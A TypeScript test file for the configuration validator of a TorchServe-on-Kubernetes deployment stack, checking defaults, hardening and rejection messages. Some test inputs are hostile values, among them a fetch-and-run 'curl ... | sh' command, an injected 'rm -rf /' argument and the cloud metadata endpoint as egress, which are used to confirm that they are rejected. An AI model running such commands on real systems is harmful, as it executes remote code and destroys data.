import assert from "node:assert/strict";
import * as fs from "node:fs";
import * as path from "node:path";
import { describe, it } from "node:test";
import {
    ConfigValidationError,
    TORCHSERVE_IMAGE_CPU,
    TORCHSERVE_IMAGE_GPU,
    TorchServeStackArgs,
    resolveSettings,
} from "../../../components/config";
import { makeModelDir, realFiles } from "../../support/fixtures";

const base = makeModelDir();
// Exists, so only its name is wrong.
fs.writeFileSync(path.join(base.dir, "l[1].json"), "{}");

function problemsOf(overrides: Partial<Record<keyof TorchServeStackArgs, unknown>>) {
    const args = { ...base.args, ...overrides } as TorchServeStackArgs;
    try {
        resolveSettings(args, realFiles);
    } catch (error) {
        assert.ok(error instanceof ConfigValidationError, `expected ConfigValidationError, got ${error}`);
        return error;
    }
    return undefined;
}

describe("resolveSettings", () => {
    it("applies safe defaults to a minimal config", () => {
        const s = resolveSettings(base.args, realFiles);
        assert.equal(s.appName, "torchserve");
        assert.equal(s.model.keep, 3);
        assert.equal(s.model.archiveFormat, "directory");
        assert.equal(s.server.image, TORCHSERVE_IMAGE_CPU);
        assert.equal(s.server.replicas, 2);
        assert.equal(s.server.maxSurge, 1);
        assert.equal(s.server.maxUnavailable, 0);
        assert.deepEqual(s.server.ports, { inference: 8080, management: 8081, metrics: 8082 });
        assert.equal(s.server.enableModelApi, false);
        assert.equal(s.server.tokenAuth, false);
        assert.equal(s.server.metricsMode, "prometheus");
        assert.equal(s.server.installPyDepPerModel, false);
        assert.equal(s.service.type, "ClusterIP");
        assert.equal(s.service.exposeManagement, false);
        assert.equal(s.service.exposeMetrics, false);
        assert.equal(s.store.protect, true);
    });

    it("picks the GPU image when gpus > 0 and installs requirements only when a file is given", () => {
        const s = resolveSettings(
            { ...base.args, gpus: 1, requirementsFile: `${base.dir}/requirements.txt` },
            realFiles,
        );
        assert.equal(s.server.image, TORCHSERVE_IMAGE_GPU);
        assert.equal(s.server.installPyDepPerModel, true);
    });

    it("needs neither model files nor a store for a run that brings no model (a pull request's preview)", () => {
        const keep = resolveSettings(
            { namespace: "ml-prod", modelName: "demo", handler: `${base.dir}/not-on-this-runner.py` },
            realFiles,
        );
        assert.equal(keep.model.artifacts, undefined);
        assert.equal(keep.model.storePath, undefined);
        assert.equal(
            keep.model.storeSubdir,
            "ml-prod/torchserve",
            "the stack's part defaults to <namespace>/<appName>",
        );
    });

    it("needs the store but no files to switch to an archived version", () => {
        const switching = resolveSettings(
            { namespace: "ml-prod", modelName: "demo", modelVersion: "v1", modelStorePath: "/mnt/store" },
            realFiles,
        );
        assert.equal(switching.model.artifacts, undefined);
        assert.equal(switching.model.explicitVersion, "v1");
    });

    it("accepts built-in handler names without a file", () => {
        assert.equal(
            resolveSettings({ ...base.args, handler: "image_classifier" }, realFiles).model.artifacts!.handler,
            "image_classifier",
        );
    });

    // Each case: the overrides, the key the error must name, and a word the problem must contain.
    const badConfigs: [string, Partial<Record<keyof TorchServeStackArgs, unknown>>, string, RegExp][] = [
        ["missing model name", { modelName: "" }, "modelName", /required/],
        ["model name with a dot", { modelName: "res.net" }, "modelName", /no dots/],
        ["model name with a slash", { modelName: "a/b" }, "modelName", /letters, digits/],
        ["version that is no label value", { modelVersion: "v1/bad" }, "modelVersion", /label value/],
        ["version too long", { modelVersion: "v".repeat(64) }, "modelVersion", /63/],
        ["empty version", { modelVersion: "" }, "modelVersion", /label value/],
        ["version ending in .mar", { modelVersion: "v2.mar" }, "modelVersion", /must not end in \.mar/],
        ["version ending in .MAR", { modelVersion: "v2.MAR" }, "modelVersion", /another version's archive/],
        ["version with '..'", { modelVersion: "v2..1" }, "modelVersion", /must not contain '\.\.'.*TorchServe/],
        ["keep of zero", { archiveKeep: 0 }, "archiveKeep", /1 to 100/],
        ["fractional keep", { archiveKeep: 2.5 }, "archiveKeep", /whole number/],
        ["missing serialized file", { serializedFile: `${base.dir}/missing.pt` }, "serializedFile", /does not exist/],
        ["serialized file is a directory", { serializedFile: base.dir }, "serializedFile", /not a file/],
        ["missing handler file", { handler: `${base.dir}/nope.py` }, "handler", /does not exist/],
        ["unknown built-in handler", { handler: "magic_handler" }, "handler", /built-in handler/],
        [
            "missing extra file",
            { extraFiles: [`${base.dir}/labels.json`, `${base.dir}/gone.json`] },
            "extraFiles[1]",
            /does not exist/,
        ],
        [
            "wildcard in an extra file",
            { extraFiles: [`${base.dir}/labels.json`, `${base.dir}/l[1].json`] },
            "extraFiles[1]",
            /wildcard/,
        ],
        [
            "missing requirements file",
            { requirementsFile: `${base.dir}/req.txt` },
            "requirementsFile",
            /does not exist/,
        ],
        ["tgz archive format", { archiveFormat: "tgz" }, "archiveFormat", /neither a \.mar nor a directory/],
        ["missing model store path", { modelStorePath: "" }, "modelStorePath", /required when a run brings a model/],
        [
            "store path missing for a switch to an archived version",
            { serializedFile: undefined, modelVersion: "v1", modelStorePath: undefined },
            "modelStorePath",
            /required when a run brings a model/,
        ],
        ["model files without a handler", { handler: undefined }, "handler", /is required with serializedFile/],
        [
            "served versions above the kept archives",
            { servedVersions: 4, archiveKeep: 3 },
            "servedVersions",
            /larger than archiveKeep/,
        ],
        ["no served version", { servedVersions: 0 }, "servedVersions", /1 to 100/],
        ["store part leaving the store", { modelStoreSubdir: "../other" }, "modelStoreSubdir", /relative directory/],
        ["absolute store part", { modelStoreSubdir: "/data" }, "modelStoreSubdir", /relative directory/],
        ["hidden store part", { modelStoreSubdir: "ns/.hidden" }, "modelStoreSubdir", /relative directory/],
        ["invalid namespace", { namespace: "ML_Prod" }, "namespace", /namespace/],
        ["invalid app name", { appName: "9torchserve" }, "appName", /start with a letter/],
        ["port clash", { managementPort: 8080 }, "managementPort", /clashes with inferencePort/],
        ["privileged port", { metricsPort: 80 }, "metricsPort", /1024 to 65535/],
        ["bad cpu quantity", { cpuLimit: "1 core" }, "cpuLimit", /quantity/],
        ["bad memory quantity", { memoryRequest: "4GB" }, "memoryRequest", /quantity/],
        ["request above limit", { memoryRequest: "8Gi" }, "memoryRequest", /larger than memoryLimit/],
        ["zero replicas", { replicas: 0 }, "replicas", /1 to 1000/],
        ["rollout that cannot progress", { maxSurge: 0, maxUnavailable: "0%" }, "maxSurge", /both zero/],
        ["bad surge", { maxSurge: "lots" }, "maxSurge", /percentage/],
        ["negative gpus", { gpus: -1 }, "gpus", /0 to 16/],
        ["unknown service type", { serviceType: "Ingress" }, "serviceType", /ClusterIP, NodePort, LoadBalancer/],
        ["unknown metrics mode", { metricsMode: "statsd" }, "metricsMode", /prometheus, log/],
        ["min workers above max", { minWorkers: 4, maxWorkers: 2 }, "minWorkers", /larger than maxWorkers/],
        ["bad model store size", { modelStoreSize: "ten gigs" }, "modelStoreSize", /quantity/],
        ["relative host path", { modelStoreHostPath: "data/store" }, "modelStoreHostPath", /absolute/],
        [
            "host path with existing claim",
            { modelStoreHostPath: "/data", modelStoreClaimName: "pvc" },
            "modelStoreHostPath",
            /cannot be combined/,
        ],
        ["bad access mode", { modelStoreAccessModes: ["ReadWriteAll"] }, "modelStoreAccessModes", /ReadWriteMany/],
        [
            "managed property in extras",
            { extraProperties: { load_models: "all" } },
            "extraProperties.load_models",
            /rendered by this program/,
        ],
        [
            "unknown property in extras",
            { extraProperties: { max_reqest_size: "10" } },
            "extraProperties.max_reqest_size",
            /did you mean max_request_size/,
        ],
        [
            "multi-line property value",
            { extraProperties: { allowed_urls: "a\nb" } },
            "extraProperties.allowed_urls",
            /one line/,
        ],
        [
            "env expansion in property value",
            { extraProperties: { allowed_urls: "$$URLS$$" } },
            "extraProperties.allowed_urls",
            /\$\$/,
        ],
        ["startup budget too small", { startupTimeoutSeconds: 1 }, "startupTimeoutSeconds", /10 to 3600/],
        ["empty image", { image: " " }, "image", /image reference/],
        // The node's system directories are no model store.
        ["host path at the root", { modelStoreHostPath: "/" }, "modelStoreHostPath", /is \/ itself/],
        ["host path in /etc", { modelStoreHostPath: "/etc/models" }, "modelStoreHostPath", /inside \/etc, a system/],
        ["host path of the kubelet", { modelStoreHostPath: "/var/lib/kubelet/pods" }, "modelStoreHostPath", /kubelet/],
        ["host path reaching /usr", { modelStoreHostPath: "/data/../usr/lib" }, "modelStoreHostPath", /inside \/usr/],
        ["host path /var/run", { modelStoreHostPath: "/var/run/" }, "modelStoreHostPath", /is \/var\/run,/],
        // Keys that undo the hardening need the opt-in.
        [
            "a command the server runs",
            { extraProperties: { system_metrics_cmd: "curl -s http://x | sh" } },
            "extraProperties.system_metrics_cmd",
            /command of your choice.*undoes the stack's hardening/,
        ],
        [
            "environment variables over the file",
            { extraProperties: { enable_envvars_config: "true" } },
            "extraProperties.enable_envvars_config",
            /TS_\* environment variables override/,
        ],
        [
            "worker launcher arguments",
            { extraProperties: { cpu_launcher_args: "--x; rm -rf /" } },
            "extraProperties.cpu_launcher_args",
            /arbitrary arguments/,
        ],
        [
            "model URLs",
            { extraProperties: { allowed_urls: "https://.*" } },
            "extraProperties.allowed_urls",
            /load model archives from/,
        ],
        [
            "gRPC management beyond loopback",
            { extraProperties: { grpc_management_address: "0.0.0.0" } },
            "extraProperties.grpc_management_address",
            /gRPC management API/,
        ],
        // Who reaches the management API, and what token authorization can do.
        [
            "management on a LoadBalancer without token auth",
            { serviceType: "LoadBalancer", exposeManagement: true },
            "exposeManagement",
            /LoadBalancer Service without token authorization/,
        ],
        [
            "management on a NodePort without token auth",
            { serviceType: "NodePort", exposeManagement: true },
            "exposeManagement",
            /NodePort Service without token authorization/,
        ],
        ["token auth with two replicas", { tokenAuth: true }, "tokenAuth", /2 pods: each pod generates its own keys/],
        [
            "token auth with an autoscaler",
            { tokenAuth: true, replicas: 1, autoscaleMaxReplicas: 3 },
            "tokenAuth",
            /3 pods/,
        ],
        [
            "inference namespaces behind a LoadBalancer",
            { serviceType: "LoadBalancer", inferenceFromNamespaces: ["apps"] },
            "inferenceFromNamespaces",
            /outside the cluster would be refused/,
        ],
        [
            "bad inference namespace",
            { inferenceFromNamespaces: ["ok", "Bad_NS"] },
            "inferenceFromNamespaces[1]",
            /namespace/,
        ],
        ["bad scraper namespace", { metricsScraperNamespace: "Prometheus" }, "metricsScraperNamespace", /namespace/],
        // Restricted egress.
        [
            "an egress entry that is no CIDR",
            { restrictEgress: true, egressAllowedTo: ["10.0.0.0/8", "pypi.org:443"] },
            "egressAllowedTo[1]",
            /not an address block in CIDR notation/,
        ],
        [
            "the metadata endpoint as an egress entry",
            { restrictEgress: true, egressAllowedTo: ["169.254.169.254/32:80"] },
            "egressAllowedTo[0]",
            /instance metadata endpoint/,
        ],
        [
            "egress entries without restrictEgress",
            { egressAllowedTo: ["10.0.0.0/8"] },
            "egressAllowedTo",
            /no effect: egress is not restricted unless restrictEgress is true/,
        ],
        [
            "restricted egress without the NetworkPolicy",
            { restrictEgress: true, networkPolicy: false },
            "restrictEgress",
            /networkPolicy false turns off/,
        ],
        [
            "restricted egress that leaves pip no package index",
            { restrictEgress: true, requirementsFile: `${base.dir}/requirements.txt` },
            "egressAllowedTo",
            /pip \(installPyDepPerModel\) cannot reach a package index/,
        ],
        // Availability and resources.
        [
            "autoscaler below replicas",
            { autoscaleMaxReplicas: 2 },
            "autoscaleMaxReplicas",
            /larger than replicas \(2\)/,
        ],
        ["autoscaler target of 0%", { autoscaleCpuPercent: 0 }, "autoscaleCpuPercent", /1 to 100/],
        ["unknown spread mode", { spreadReplicas: "always" }, "spreadReplicas", /preferred, required, off/],
        ["bad ephemeral base", { ephemeralStorageBase: "lots" }, "ephemeralStorageBase", /quantity/],
        ["ephemeral limit below base", { ephemeralStorageLimit: "100Mi" }, "ephemeralStorageLimit", /smaller than/],
        ["negative start margin", { podStartMarginSeconds: -1 }, "podStartMarginSeconds", /0 to 3600/],
        // Each bound checked once (the mutation run found these branches reached by no bad config).
        ["image with a space", { image: "pytorch/torchserve 0.12" }, "image", /image reference/],
        ["zero job queue", { jobQueueSize: 0 }, "jobQueueSize", /1 to 1000000/],
        ["rollout timeout above 4 h", { rolloutTimeoutMinutes: 241 }, "rolloutTimeoutMinutes", /1 to 240/],
        ["zero batch size", { batchSize: 0 }, "batchSize", /1 to 4096/],
        ["no worker", { minWorkers: 0 }, "minWorkers", /1 to 64/],
        ["negative batch delay", { maxBatchDelayMs: -1 }, "maxBatchDelayMs", /0 to 600000/],
        ["zero response timeout", { responseTimeoutSeconds: 0 }, "responseTimeoutSeconds", /1 to 86400/],
        ["blank archiver command", { archiverCommand: "  " }, "archiverCommand", /empty/],
        ["no serialized file", { serializedFile: "" }, "serializedFile", /required/],
        ["extra files not a list", { extraFiles: "labels.json" as any }, "extraFiles", /list of file paths/],
        ["zero memory limit", { memoryLimit: "0" }, "memoryLimit", /positive Kubernetes quantity/],
        ["bad unavailability", { maxUnavailable: "lots" }, "maxUnavailable", /percentage/],
    ];

    it("says how to fix a version the store or TorchServe could not tell apart, without repeating it", () => {
        for (const version of ["v2.mar", "v2..1"]) {
            const match = problemsOf({ modelVersion: version })!.problems.find((p) => p.key === "modelVersion")!;
            assert.equal(
                match.fix,
                "use a version without it (a version is a name, not a file): pulumi config set modelVersion 2026-11-24.1",
            );
            assert.ok(!match.problem.includes(version) && !match.fix.includes(version), "the value only as the value");
        }
        assert.match(
            problemsOf({ modelVersion: "v2..1" })!.problems[0].problem,
            /as a relative path\), so the new pods would never be ready$|\(a relative path\), so the new pods would never be ready$/,
        );
    });

    for (const [name, overrides, key, problem] of badConfigs) {
        it(`rejects ${name}, naming ${key} and a fix`, () => {
            const error = problemsOf(overrides);
            assert.ok(error, "expected the config to be rejected");
            const match = error.problems.find((p) => p.key === key);
            assert.ok(match, `no problem names ${key}: ${error.message}`);
            assert.match(match.problem, problem);
            assert.ok(match.fix.length > 10, "a fix is given");
            assert.match(error.message, /nothing was deployed or deleted/);
            assert.match(error.message, new RegExp(key.replace(/[[\].]/g, "\\$&")));
        });
    }

    it("names the block a bad egress entry means in its fix, and keeps good entries canonical", () => {
        const fixes = (entry: string) =>
            problemsOf({ restrictEgress: true, egressAllowedTo: [entry] })!.problems.find(
                (p) => p.key === "egressAllowedTo[0]",
            )!;
        assert.equal(fixes("10.0.0.5").fix, "pulumi config set --path 'egressAllowedTo[0]' 10.0.0.5/32");
        const hostBits = fixes("10.1.2.3/8:3128");
        assert.match(hostBits.problem, /host bits set: the block it means is 10\.0\.0\.0\/8/);
        assert.equal(hostBits.fix, "pulumi config set --path 'egressAllowedTo[0]' 10.0.0.0/8:3128");
        assert.match(fixes("10.0.0.0/8:0").problem, /port outside 1-65535/);
        assert.match(fixes("10.0.0.0/8:65536").problem, /port outside 1-65535/);
        assert.match(fixes("10.0.0.0/33").problem, /CIDR notation/);
        assert.match(fixes("169.254.0.0/16x").problem, /CIDR notation/);
        assert.match(fixes("fd00:ec2::254/128").problem, /metadata endpoint/);
        assert.match(fixes("100.100.100.200/32").problem, /metadata endpoint/);
        const s = resolveSettings(
            {
                ...base.args,
                restrictEgress: true,
                egressAllowedTo: ["10.0.0.0/8", "FD00:0:0::/16:3128", "0.0.0.0/0:443"],
            },
            realFiles,
        );
        assert.deepEqual(s.service.egressAllowedTo, [
            { cidr: "10.0.0.0/8", family: 4 },
            { cidr: "fd00::/16", family: 6, port: 3128 },
            { cidr: "0.0.0.0/0", family: 4, port: 443 },
        ]);
        const off = resolveSettings(base.args, realFiles);
        assert.equal(off.service.restrictEgress, false, "egress is not restricted by default");
        assert.deepEqual(off.service.egressAllowedTo, []);
    });

    it("defaults to the hardened settings: loopback management, policies, read-only root, no unsafe extras", () => {
        const s = resolveSettings(base.args, realFiles);
        assert.equal(s.service.networkPolicy, true);
        assert.deepEqual(s.service.inferenceFromNamespaces, []);
        assert.equal(s.service.metricsScraperNamespace, "monitoring");
        assert.equal(s.server.readOnlyRootFilesystem, true);
        assert.equal(s.server.allowUnsafeExtraProperties, false);
        assert.equal(s.server.podStartMarginSeconds, 120);
        assert.deepEqual(s.server.ephemeralStorage, { base: "1Gi" });
        assert.deepEqual(s.availability, { podDisruptionBudget: true, spreadReplicas: "preferred" });
        assert.equal(s.secretConfig, false);
    });

    it("accepts the unsafe keys with the explicit opt-in, and safe values without it", () => {
        const unsafe = { system_metrics_cmd: "metrics.sh", allowed_urls: "https://models.example/.*" };
        assert.deepEqual(
            resolveSettings({ ...base.args, extraProperties: unsafe, allowUnsafeExtraProperties: true }, realFiles)
                .server.extraProperties,
            unsafe,
        );
        const safe = { grpc_management_address: "127.0.0.1", enable_envvars_config: "false" };
        assert.deepEqual(
            resolveSettings({ ...base.args, extraProperties: safe }, realFiles).server.extraProperties,
            safe,
        );
    });

    it("accepts management on a LoadBalancer with token authorization and one pod, and an autoscaler", () => {
        const open = resolveSettings(
            { ...base.args, serviceType: "LoadBalancer", exposeManagement: true, tokenAuth: true, replicas: 1 },
            realFiles,
        );
        assert.equal(open.service.exposeManagement, true);
        const scaled = resolveSettings({ ...base.args, autoscaleMaxReplicas: 6, autoscaleCpuPercent: 60 }, realFiles);
        assert.deepEqual(scaled.availability.autoscale, { maxReplicas: 6, cpuPercent: 60 });
    });

    it("keeps secrets only where they stay secret: extraProperties, whose file then goes into a Secret", () => {
        const withSecret = resolveSettings({ ...base.args, extraProperties: { keystore_pass: "hunter2" } }, realFiles, [
            "extraProperties",
        ]);
        assert.equal(withSecret.secretConfig, true);
        assert.equal(resolveSettings(base.args, realFiles, ["extraProperties"]).secretConfig, false, "no entry");
        assert.throws(
            () => resolveSettings(base.args, realFiles, ["modelVersion", "extraProperties"]),
            (e: ConfigValidationError) =>
                e.problems.length === 1 &&
                e.problems[0].key === "modelVersion" &&
                /is set as a secret, but its value ends up in plain text/.test(e.problems[0].problem) &&
                /without --secret/.test(e.problems[0].fix),
        );
    });

    it("reports every problem at once", () => {
        const error = problemsOf({ modelName: "", archiveKeep: 0, inferencePort: 8081 });
        assert.ok(error);
        assert.deepEqual(error.problems.map((p) => p.key).sort(), ["archiveKeep", "managementPort", "modelName"]);
    });
});
